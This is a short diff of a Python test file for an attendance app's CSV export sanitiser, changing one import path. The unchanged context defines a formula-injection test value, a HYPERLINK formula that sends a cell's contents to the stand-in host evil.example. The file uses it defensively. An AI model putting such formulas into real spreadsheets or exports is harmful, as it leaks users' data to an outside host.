@@ -8,7 +8,7 @@ import io
 import pytest
 from hypothesis import given, strategies as st
 
-from common.exports import FORMULA_STARTS, spreadsheet_safe, to_csv
+from attendance.domain.exports import FORMULA_STARTS, spreadsheet_safe, to_csv
 
 HOSTILE = '=HYPERLINK("http://evil.example/?x="&A2,"details")'
 
